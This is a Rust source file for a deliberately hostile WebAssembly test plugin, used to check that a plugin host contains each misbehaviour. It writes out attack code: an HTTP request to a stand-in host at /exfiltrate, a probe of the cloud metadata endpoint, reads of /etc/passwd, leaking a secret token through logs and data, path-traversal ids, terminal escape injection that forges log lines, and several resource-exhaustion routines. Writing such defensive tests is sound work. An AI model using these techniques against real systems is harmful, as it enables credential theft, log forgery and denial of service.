//! A plugin that misbehaves on purpose, one way per `behavior` configuration value, so
//! the tests can show the host contains each. It is a component of the same WIT world
//! as the JumpCloud plugin; natively it compiles to nothing.
//!
//! Built with the feature `climb-out`, its `describe()` declares a step whose id tries
//! to climb out of the output folder (`../../../escaped`): a plugin the host must refuse
//! when it loads it.

#[cfg(target_arch = "wasm32")]
mod component {
    wit_bindgen::generate!({
        world: "integration",
        path: "../../wit",
        with: {
            "wasi:http/outgoing-handler@0.2.12": wasip2::http::outgoing_handler,
            "wasi:http/types@0.2.12": wasip2::http::types,
            "wasi:io/error@0.2.12": wasip2::io::error,
            "wasi:io/poll@0.2.12": wasip2::io::poll,
            "wasi:io/streams@0.2.12": wasip2::io::streams,
            "wasi:clocks/monotonic-clock@0.2.12": wasip2::clocks::monotonic_clock,
            "wasi:random/random@0.2.12": wasip2::random::random,
        },
    });

    use exports::secgraph::integration::plugin::Guest;
    use secgraph::integration::types as wit;
    use secgraph::integration::{graph, log, progress};
    use wasip2::http::types::{ErrorCode, Fields, Method, OutgoingBody, OutgoingRequest, Scheme};

    struct Hostile;

    /// The step's id: an ordinary one, or with `climb-out` one that tries to climb out of
    /// the output folder.
    #[cfg(not(feature = "climb-out"))]
    const STEP_ID: &str = "misbehave";
    #[cfg(feature = "climb-out")]
    const STEP_ID: &str = "../../../escaped";

    export!(Hostile);

    impl Guest for Hostile {
        fn describe() -> wit::PluginInfo {
            wit::PluginInfo {
                id: "hostile".into(),
                // Terminal control in the plugin's own name: `describe` must print it inert.
                name: "Hostile test plugin\u{1b}[2J\u{1b}[31m".into(),
                version: "0.0.0".into(),
                config_fields: vec![
                    wit::ConfigField {
                        name: "behavior".into(),
                        description: "spin, memory-bomb, egress-outside, egress-metadata, log-flood, panic, probe-sandbox, leak-secret, data-flood, entity-flood, key-flood, log-giant, control-chars, deep-recursion, deep-json, climb-type".into(),
                        secret: false,
                        required: true,
                        default_value: None,
                        env_var: None,
                    },
                    wit::ConfigField {
                        name: "token".into(),
                        description: "A secret the plugin tries to leak".into(),
                        secret: true,
                        required: false,
                        default_value: None,
                        env_var: None,
                    },
                ],
                steps: vec![wit::StepInfo {
                    id: STEP_ID.into(),
                    name: "Misbehave".into(),
                    depends_on: vec![],
                    declared_types: vec![wit::DeclaredType {
                        type_: "hostile_thing".into(),
                        class: "Resource".into(),
                        kind: wit::ObjectKind::Entity,
                    }],
                }],
                default_egress_hosts: vec![],
            }
        }

        fn check_config(_config: Vec<wit::ConfigEntry>) -> Result<(), wit::IntegrationError> {
            Ok(())
        }

        fn validate(_config: Vec<wit::ConfigEntry>) -> Result<(), wit::IntegrationError> {
            Ok(())
        }

        fn execute_step(
            _step_id: String,
            config: Vec<wit::ConfigEntry>,
        ) -> Result<wit::StepReport, wit::IntegrationError> {
            let value = |name: &str| {
                config
                    .iter()
                    .find(|e| e.name == name)
                    .map(|e| e.value.clone())
                    .unwrap_or_default()
            };
            match value("behavior").as_str() {
                "spin" => spin(),
                "memory-bomb" => memory_bomb(),
                "egress-outside" => get("http", "203.0.113.7:80", "/exfiltrate"),
                "egress-metadata" => get("http", "169.254.169.254", "/latest/meta-data/"),
                "log-flood" => log_flood(),
                "panic" => panic!("the hostile plugin panics on purpose"),
                "probe-sandbox" => probe_sandbox(),
                "leak-secret" => leak_secret(&value("token")),
                "data-flood" => data_flood(),
                "entity-flood" => entity_flood(),
                "key-flood" => key_flood(),
                "log-giant" => log_giant(),
                "control-chars" => control_chars(),
                "deep-recursion" => deep_recursion(),
                "deep-json" => deep_json(),
                "climb-type" => climb_type(),
                other => Err(wit::IntegrationError::Internal(format!(
                    "unknown behavior {other}"
                ))),
            }
        }
    }

    fn report() -> wit::StepReport {
        wit::StepReport {
            skipped_records: 0,
            convert_nanos: 0,
        }
    }

    /// Burns CPU forever.
    fn spin() -> Result<wit::StepReport, wit::IntegrationError> {
        let mut counter: u64 = 0;
        loop {
            counter = std::hint::black_box(counter.wrapping_add(1));
        }
    }

    /// Allocates (and touches) memory until something stops it.
    fn memory_bomb() -> Result<wit::StepReport, wit::IntegrationError> {
        let mut hoard: Vec<Vec<u8>> = Vec::new();
        loop {
            hoard.push(vec![0xAB; 4 << 20]);
            std::hint::black_box(&hoard);
        }
    }

    /// One GET; reports how the host answered.
    fn get(
        scheme: &str,
        authority: &str,
        path: &str,
    ) -> Result<wit::StepReport, wit::IntegrationError> {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_method(&Method::Get);
        let _ = request.set_scheme(Some(&match scheme {
            "https" => Scheme::Https,
            _ => Scheme::Http,
        }));
        let _ = request.set_authority(Some(authority));
        let _ = request.set_path_with_query(Some(path));
        if let Ok(body) = request.body() {
            let _ = OutgoingBody::finish(body, None);
        }
        let outcome = match wasip2::http::outgoing_handler::handle(request, None) {
            Err(code) => Err(code),
            Ok(future) => {
                future.subscribe().block();
                match future.get() {
                    Some(Ok(Ok(_response))) => Ok(()),
                    Some(Ok(Err(code))) => Err(code),
                    _ => Err(ErrorCode::InternalError(Some("no response".into()))),
                }
            }
        };
        match outcome {
            Err(ErrorCode::HttpRequestDenied) => {
                Err(wit::IntegrationError::EgressDenied(authority.into()))
            }
            Err(code) => Err(wit::IntegrationError::Transport(wit::EndpointError {
                endpoint: path.into(),
                message: format!("{code:?}"),
            })),
            Ok(()) => Err(wit::IntegrationError::Internal(format!(
                "reached {authority}: the sandbox let it through"
            ))),
        }
    }

    /// Far more log lines than any budget.
    fn log_flood() -> Result<wit::StepReport, wit::IntegrationError> {
        for i in 0..200_000u32 {
            log::log(log::Level::Info, &format!("flood line {i}"), &[]);
        }
        Ok(report())
    }

    /// Tries the filesystem, the environment and the arguments, and reports what it saw.
    fn probe_sandbox() -> Result<wit::StepReport, wit::IntegrationError> {
        let root = std::fs::read_dir("/").map(|entries| entries.count());
        let passwd = std::fs::read("/etc/passwd").map(|bytes| bytes.len());
        let cwd = std::env::current_dir().map(|d| d.display().to_string());
        let env = std::env::vars().count();
        let args = std::env::args().count();
        println!("probing the sandbox");
        Err(wit::IntegrationError::Internal(format!(
            "probe: root={} passwd={} cwd={} env={env} args={args}",
            if root.is_ok() { "readable" } else { "denied" },
            if passwd.is_ok() { "readable" } else { "denied" },
            if cwd.is_ok() { "known" } else { "none" },
        )))
    }

    /// Tries every channel to get a secret out: logs, stdout, errors, the graph.
    fn leak_secret(token: &str) -> Result<wit::StepReport, wit::IntegrationError> {
        log::log(
            log::Level::Error,
            &format!("the token is {token}"),
            &[log::Field {
                name: "token".into(),
                value: token.into(),
            }],
        );
        println!("stdout token {token}");
        eprintln!("stderr token {token}");
        let _ = graph::add_entities(&[wit::Entity {
            key: "hostile-thing-0001".into(),
            type_: "hostile_thing".into(),
            classes: vec!["Resource".into()],
            properties: vec![wit::Property {
                name: "note".into(),
                value: wit::PropertyValue::Text(format!("token={token}")),
            }],
            raw_data: Some(format!("{{\"token\": \"{token}\"}}")),
        }]);
        Err(wit::IntegrationError::Authentication(format!(
            "rejected token {token}"
        )))
    }

    /// Hands the host 1 MiB values under ever new keys (`set-data`), forever.
    fn data_flood() -> Result<wit::StepReport, wit::IntegrationError> {
        let value = "x".repeat(1 << 20);
        for i in 0u64.. {
            graph::set_data(&format!("flood-{i}"), &value);
        }
        Ok(report())
    }

    /// Adds small entities in batches of 500, forever.
    fn entity_flood() -> Result<wit::StepReport, wit::IntegrationError> {
        let mut next = 0u64;
        loop {
            let batch: Vec<wit::Entity> = (0..500)
                .map(|_| {
                    next += 1;
                    thing(format!("flood-entity-{next:012}"), "hostile_thing")
                })
                .collect();
            if let Err(error) = graph::add_entities(&batch) {
                return Err(wit::IntegrationError::Graph(error));
            }
        }
    }

    /// Adds entities with 4 KiB keys in batches of 200, forever: the host's key index
    /// grows by the key bytes.
    fn key_flood() -> Result<wit::StepReport, wit::IntegrationError> {
        let pad = "k".repeat(4000);
        let mut next = 0u64;
        loop {
            let batch: Vec<wit::Entity> = (0..200)
                .map(|_| {
                    next += 1;
                    thing(format!("{pad}-{next:012}"), "hostile_thing")
                })
                .collect();
            graph::add_entities(&batch).map_err(wit::IntegrationError::Graph)?;
        }
    }

    /// 400 log lines of an 8 MiB message and an 8 MiB field.
    fn log_giant() -> Result<wit::StepReport, wit::IntegrationError> {
        let message = "m".repeat(8 << 20);
        let field = log::Field {
            name: "payload".into(),
            value: "f".repeat(8 << 20),
        };
        for _ in 0..400 {
            log::log(log::Level::Warn, &message, std::slice::from_ref(&field));
        }
        Ok(report())
    }

    /// Text meant to take over the operator's terminal: clear the screen, colour it,
    /// forge a line of another tenant, overwrite the current line.
    const TERMINAL_ATTACK: &str = "\u{1b}[2J\u{1b}[H\u{1b}[31mred\u{1b}[0m\n2030-01-01T00:00:00Z  INFO plugin: tenant=\"benign\" forged line\rOVERWRITTEN\u{7}\u{1b}]0;title\u{7}\u{202e}reversed";

    /// Logs, reports progress and retries, and fails, all with terminal control in them.
    fn control_chars() -> Result<wit::StepReport, wit::IntegrationError> {
        log::log(
            log::Level::Error,
            TERMINAL_ATTACK,
            &[log::Field {
                name: format!("field{TERMINAL_ATTACK}"),
                value: TERMINAL_ATTACK.into(),
            }],
        );
        progress::report(TERMINAL_ATTACK, 1, Some(2));
        progress::retrying(TERMINAL_ATTACK, 1, 0, TERMINAL_ATTACK);
        Err(wit::IntegrationError::Internal(TERMINAL_ATTACK.into()))
    }

    /// Recurses until the stack runs out.
    fn deep_recursion() -> Result<wit::StepReport, wit::IntegrationError> {
        #[inline(never)]
        fn down(depth: u64, frame: [u64; 16]) -> u64 {
            let frame = std::hint::black_box(frame);
            if depth == u64::MAX {
                return 0;
            }
            frame[(depth % 16) as usize].wrapping_add(down(depth + 1, frame))
        }
        let depth = down(0, [1; 16]);
        Err(wit::IntegrationError::Internal(format!(
            "returned from a bottomless recursion at {depth}"
        )))
    }

    /// An entity whose raw data nests a million arrays: a recursive parser in the host
    /// would run out of stack.
    fn deep_json() -> Result<wit::StepReport, wit::IntegrationError> {
        let depth = 1_000_000;
        let mut raw = "[".repeat(depth);
        raw.push_str(&"]".repeat(depth));
        let mut entity = thing("deep-json-000001".into(), "hostile_thing");
        entity.raw_data = Some(raw);
        graph::add_entities(&[entity]).map_err(wit::IntegrationError::Graph)?;
        let found = graph::find_entity("deep-json-000001");
        Err(wit::IntegrationError::Internal(format!(
            "the host stored the deep raw data (found again: {})",
            found.is_some()
        )))
    }

    /// An entity whose `_type` tries to climb out of the output folder.
    fn climb_type() -> Result<wit::StepReport, wit::IntegrationError> {
        let entity = thing("climb-type-000001".into(), "../../../escaped_type");
        graph::add_entities(&[entity]).map_err(wit::IntegrationError::Graph)?;
        Err(wit::IntegrationError::Internal(
            "the host accepted a _type with a path in it".into(),
        ))
    }

    fn thing(key: String, type_: &str) -> wit::Entity {
        wit::Entity {
            key,
            type_: type_.into(),
            classes: vec!["Resource".into()],
            properties: vec![wit::Property {
                name: "name".into(),
                value: wit::PropertyValue::Text("thing".into()),
            }],
            raw_data: None,
        }
    }
}
